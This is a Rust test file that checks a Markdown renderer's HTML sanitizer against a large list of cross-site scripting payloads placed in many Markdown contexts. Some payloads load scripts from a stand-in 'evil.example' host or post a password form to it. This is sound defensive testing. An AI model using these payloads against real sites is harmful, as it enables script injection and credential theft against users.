//! Attempts to get script, style, frames, forms or foreign requests into a page.
//!
//! Each is tried alone and inside every construct of our Markdown; what comes out is read by a real
//! HTML tokenizer, and every tag, attribute and scheme must be one of ours.

use std::cell::RefCell;

use ammonia::Url;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use tidings_domain::search::Term;

use super::tests::{ANA, names};
use super::*;

/// By kind: the name says what would have to go wrong.
const ATTACKS: [(&str, &[&str]); 14] = [
    (
        "script elements",
        &[
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<script\n>alert(1)</script\n>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "</p><script>alert(1)</script><p>",
            "<script/xss src=https://evil.example></script>",
            "<<script>alert(1);//<</script>",
            "<script>alert(1)",
            "<script type=text/markdown>*a*</script>",
            "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
        ],
    ),
    (
        "event handlers",
        &[
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x OnErRoR=alert(1)//",
            "<img/src=x/onerror=alert(1)>",
            "<img src=\"x` `<script>alert(1)</script>\"` `>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<a onmouseover=alert(1)>x</a>",
            "<div onpointerover=\"alert(1)\">x</div>",
            "<svg/onload=alert(1)>",
            "<x onclick=alert(1) tabindex=1 autofocus>",
        ],
    ),
    (
        "javascript addresses",
        &[
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "javascript&#x3a;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A&#x61&#x76&#x61script:alert(1)",
            "java\tscript:alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "java&#10;script:alert(1)",
            "java&#13;script:alert(1)",
            "\u{1}javascript:alert(1)",
            "&#1;javascript:alert(1)",
            " javascript:alert(1)",
            "javascript://https://x.example/%0aalert(1)",
            "javascript:/*https://x.example*/alert(1)",
            "javascript\\:alert(1)",
            "\\javascript:alert(1)",
            "javas\u{200b}cript:alert(1)",
            "view-source:javascript:alert(1)",
            "https:javascript:alert(1)",
            "feed:javascript:alert(1)",
        ],
    ),
    (
        "other schemes",
        &[
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "DATA:image/svg+xml,<svg onload=alert(1)>",
            "vbscript:msgbox(1)",
            "blob:https://x.example/1",
            "file:///etc/passwd",
            "filesystem:https://x.example/temporary/x",
            "about:blank",
            "intent://x#Intent;scheme=http;end",
            "ws://x.example",
            "//evil.example/x.js",
            "\\\\evil.example\\x",
            "/v1/sessions/current",
            "?q=1",
            "#fragment",
            "../x",
        ],
    ),
    (
        "links that break out of their attribute",
        &[
            "https://x.example/\"onmouseover=\"alert(1)",
            "https://x.example/'onmouseover='alert(1)",
            "https://x.example/\"><script>alert(1)</script>",
            "https://x.example/`onload=alert(1)",
            "https://x.example/&quot;onclick=&quot;alert(1)",
            "https://x.example/&#34;onclick=&#34;alert(1)",
            "<https://x.example/\"onclick=\"alert(1)\">",
            "<https://x.example/><img/src/onerror=alert(1)>",
            "https://x.example/<script>alert(1)</script>",
            "https://x.example/\u{a0}onclick=alert(1)",
            "https://\"onclick=alert(1)//x.example",
            "https://x.example/\nonclick=alert(1)",
            "https://user:\"onclick=alert(1)@x.example/",
            "mailto:a@x.example?subject=\"><script>alert(1)</script>",
            "<mailto:a@x.example\"onclick=alert(1)>",
            "tidings://x/\"onclick=\"alert(1)",
        ],
    ),
    (
        "markdown links and images",
        &[
            "[x](javascript:alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x]( javascript:alert(1) )",
            "[x](https://x.example \"\\\" onclick=alert(1) \\\"\")",
            "[x](https://x.example '\" onclick=\"alert(1)')",
            "![x](https://evil.example/pixel.gif)",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](https://x.example)",
            "![](\" onerror=alert(1) x=\")",
            "[![x](javascript:alert(1))](javascript:alert(2))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[a](https://x.example)](javascript:alert(1))",
            "[<img src=x onerror=alert(1)>](https://x.example)",
            "[x]\\(javascript:alert(1))",
            "[citelol]: (javascript:alert(1))",
        ],
    ),
    (
        "reference definitions",
        &[
            "[x]\n\n[x]: javascript:alert(1)",
            "[x][y]\n\n[y]: <javascript:alert(1)>",
            "[x]\n\n[x]: data:text/html,x \"title\"",
            "[x]\n\n[x]: https://x.example '\"><script>alert(1)</script>'",
            "[<script>]\n\n[<script>]: https://x.example/<script>",
            "![x]\n\n[x]: javascript:alert(1)",
            "[x]\n\n> [x]: java&#10;script:alert(1)",
        ],
    ),
    (
        "svg and mathml",
        &[
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        ],
    ),
    (
        "frames, forms, styles, documents",
        &[
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=javascript:alert(1)>",
            "<embed src=https://evil.example/x.swf>",
            "<form action=https://evil.example><input name=password><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<style>*{background:url(https://evil.example)}</style>",
            "<p style=\"position:fixed;inset:0;background:red\">x</p>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<template><script>alert(1)</script></template>",
            "<portal src=https://evil.example>",
            "<isindex type=image src=1 onerror=alert(1)>",
        ],
    ),
    (
        "comments and declarations",
        &[
            "<!-- --><script>alert(1)</script>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<!DOCTYPE x [<!ENTITY y \"<script>\">]>&y;",
            "--!><script>alert(1)</script>",
            "<!-- `--><script>alert(1)</script>`",
        ],
    ),
    (
        "code that does not stay code",
        &[
            "```\n</code></pre><script>alert(1)</script>\n```",
            "```\n```\n<script>alert(1)</script>\n```",
            "````\n```\n<img src=x onerror=alert(1)>\n````\n```",
            "```\"><script>alert(1)</script>\nx\n```",
            "```rust\" onmouseover=\"alert(1)\nx\n```",
            "```rust onmouseover=alert(1)\nx\n```",
            "~~~ <script>\nx\n~~~",
            "`</code><script>alert(1)</script>`",
            "`` ` <img src=x onerror=alert(1)> ``",
            "    </pre><script>alert(1)</script>",
            "> ```\n<script>alert(1)</script>\n> ```",
            "```&quot;&gt;&lt;script&gt;\nx\n```",
        ],
    ),
    (
        "malformed tags",
        &[
            "<",
            "<>",
            "</",
            "<a",
            "<a href=\"",
            "<a href=\"javascript:alert(1)",
            "<p/onclick=alert(1)/x>",
            "<a href='https://x.example'<script>alert(1)</script>",
            "<\u{0}script>alert(1)</script>",
            "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
            "<plaintext>",
            "<xmp><script>alert(1)</script></xmp>",
            "<textarea><script>alert(1)</script></textarea>",
            "<title><img src=x onerror=alert(1)></title>",
            "</span></p></div></body></html><script>alert(1)</script>",
            "<b <script>alert(1)</script>0",
        ],
    ),
    (
        "unicode",
        &[
            "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
            "\u{2039}script\u{203a}alert(1)",
            "\u{202e}<script>alert(1)</script>",
            "https://x.example/\u{202e}gpj.exe",
            "[\u{202e}moc.elpmaxe//:sptth](https://evil.example)",
            "\u{2066}<img src=x onerror=alert(1)>\u{2069}",
            "<\u{200d}script>alert(1)</script>",
            "\u{feff}<script>alert(1)</script>",
            "\u{2028}<script>alert(1)</script>\u{2029}",
            "<\u{130}mg src=x onerror=alert(1)>",
            "<\u{17f}cript>alert(1)</\u{17f}cript>",
            "java\u{ad}script:alert(1)",
            "https://ex\u{430}mple.org@evil.example/\u{2044}",
            "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{8}\u{b}script>alert(1)",
        ],
    ),
    (
        "references and entities",
        &[
            "@<user:\"><script>alert(1)</script>>",
            "@<user:0193a0c2-7b5e-7c3a-9f10-8e2d4c6b8a01\" onclick=alert(1)>",
            "#<channel:javascript:alert(1)>",
            "@<here onclick=alert(1)>",
            "@<script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;img src=x onerror=alert(1)&#x3e;",
            "&ltscript&gtalert(1)",
            "&amp;lt;script&amp;gt;",
            "&#1;script&#2;alert(1)",
            "&#0;&#xD800;&#x110000;<script>",
            "&nbsp;&#160;&#xa0;<script>",
            "\\<script\\>alert(1)\\</script\\>",
            "\\\\<script>alert(1)</script>",
        ],
    ),
];

/// Everything that a person can put around a text; `{}` is the text.
const PLACES: [&str; 16] = [
    "{}",
    "a {} b",
    "**{}**",
    "> - {}",
    "# {}",
    "|{}|\n|-|\n|{}|",
    "`{}`",
    "```{}\n{}\n```",
    "<{}>",
    "[{}](https://x.example)",
    "[x]({})",
    "[x](<{}>)",
    "![{}]({})",
    "[x](https://x.example \"{}\")",
    "[x]\n\n[x]: {}",
    "https://x.example/{}",
];

/// Collects what is not text.
#[derive(Default)]
struct Markup {
    tags: RefCell<Vec<Tag>>,
    other: RefCell<Vec<String>>,
}

impl TokenSink for Markup {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.tags.borrow_mut().push(tag),
            Token::CommentToken(_) | Token::DoctypeToken(_) | Token::NullCharacterToken => {
                self.other.borrow_mut().push(format!("{token:?}"));
            }
            Token::ParseError(error) => self.other.borrow_mut().push(error.into_owned()),
            Token::CharacterTokens(_) | Token::EOFToken => {}
        }
        TokenSinkResult::Continue
    }
}

/// Whether an attribute is one that the page knows, with a value that means no harm.
fn is_ours(element: &str, attribute: &str, value: &str) -> bool {
    match (element, attribute) {
        ("a", "href") => Url::parse(value)
            .is_ok_and(|url| ["https", "http", "mailto", "tidings"].contains(&url.scheme())),
        ("a", "target") => value == "_blank",
        ("a", "rel") => value == "noopener noreferrer nofollow",
        ("a" | "span", "class") => ["mention", "mention mention-all"].contains(&value),
        ("a" | "span", "data-channel") | ("span", "data-user") => {
            value.len() == 36 && value.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-')
        }
        ("code", "class") => value.strip_prefix("language-").is_some_and(|language| {
            language.bytes().all(|b| b.is_ascii_alphanumeric() || b"_+#.-".contains(&b))
        }),
        ("td" | "th", "class") => ["align-left", "align-center", "align-right"].contains(&value),
        ("ol", "start") => value.bytes().all(|b| b.is_ascii_digit()),
        ("input", "type") => value == "checkbox",
        ("input", "disabled" | "checked") => value.is_empty(),
        _ => false,
    }
}

#[track_caller]
fn check(body: &str, html: &str) {
    let tokenizer = Tokenizer::new(
        Markup::default(),
        TokenizerOpts { exact_errors: true, ..Default::default() },
    );
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    assert_eq!(tokenizer.sink.other.take(), Vec::<String>::new(), "{body:?} became {html}");
    let mut open: Vec<String> = Vec::new();
    for tag in tokenizer.sink.tags.take() {
        let name = tag.name.to_string();
        let known = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "input",
            "li",
            "mark",
            "ol",
            "p",
            "pre",
            "span",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        assert!(known.contains(&&*name), "{body:?} became {html}");
        for attribute in &tag.attrs {
            let fine = is_ours(&name, &attribute.name.local, &attribute.value);
            assert!(fine, "{attribute:?}: {body:?} became {html}");
        }
        let has = |wanted: &str| tag.attrs.iter().any(|a| &*a.name.local == wanted);
        if has("href") {
            assert!(has("rel") && has("target"), "{body:?} became {html}");
        }
        match tag.kind {
            TagKind::EndTag => assert_eq!(open.pop(), Some(name), "{body:?} became {html}"),
            TagKind::StartTag if ["br", "hr", "input"].contains(&&*name) => {}
            TagKind::StartTag => open.push(name),
        }
    }
    assert_eq!(open, Vec::<String>::new(), "{body:?} became {html}");
}

#[test]
fn no_attack_gets_through_in_any_place() {
    let attacks = ATTACKS.iter().flat_map(|(_, attacks)| *attacks);
    assert!(attacks.clone().count() >= 180);
    for attack in attacks {
        for place in PLACES {
            let body = place.replace("{}", attack);
            let prepared = prepare(&body, &names());
            check(&body, &prepared.body_html);
            check(&body, &render(&prepared.body, &names()));
            let word = |word: &str| Term::Word(word.to_owned());
            let terms =
                [word("alert"), word("script"), word("x"), word("1"), word("href"), word("p")];
            check(&body, &highlight(&prepared.body_html, &terms));
        }
    }
}

#[test]
fn the_writer_alone_lets_no_attack_through() {
    for attack in ATTACKS.iter().flat_map(|(_, attacks)| *attacks) {
        for place in PLACES {
            let body = place.replace("{}", attack);
            check(&body, &html::rich(&body, &names()).0);
        }
    }
}

#[test]
fn the_allow_list_alone_lets_no_attack_through() {
    for attack in ATTACKS.iter().flat_map(|(_, attacks)| *attacks) {
        for raw in [
            (*attack).to_owned(),
            format!("<a href=\"{attack}\">x</a>"),
            format!("<p class=\"{attack}\" {attack}>"),
        ] {
            let clean = sanitize::clean(&raw);
            // Reading turns a carriage return that came from `&#13;` into a line feed.
            assert_eq!(sanitize::clean(&clean), clean.replace('\r', "\n"));
            for bad in
                ["<script", "<img", "<svg", "<iframe", "<style", "=\"javascript:", "=\"data:"]
            {
                assert!(!clean.to_lowercase().contains(bad), "{raw:?} became {clean}");
            }
        }
    }
}

#[test]
fn names_cannot_attack() {
    for attack in ATTACKS.iter().flat_map(|(_, attacks)| *attacks) {
        let mut names = Names::default();
        names.insert_user(ANA.parse().unwrap(), attack);
        names.insert_channel(ANA.parse().unwrap(), attack);
        for body in [
            format!("@<user:{ANA}>"),
            format!("*x* #<channel:{ANA}>"),
            format!("[#<channel:{ANA}>](https://x.example)"),
        ] {
            check(&body, &render(&body, &names));
        }
    }
}

/// What is asserted above would mean little if the check saw nothing.
#[test]
fn the_check_sees_what_is_not_ours() {
    for bad in [
        "<script>x</script>",
        "<p onclick=x>x</p>",
        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">x</a>",
        "<a href=\"https://x.example\">x</a>",
        "<p>x",
        "x</p>",
        "<!-- x -->",
        "<p>x &</p",
        "<img src=x>",
        "<span class=\"x\">x</span>",
    ] {
        assert!(std::panic::catch_unwind(|| check("", bad)).is_err(), "{bad}");
    }
}
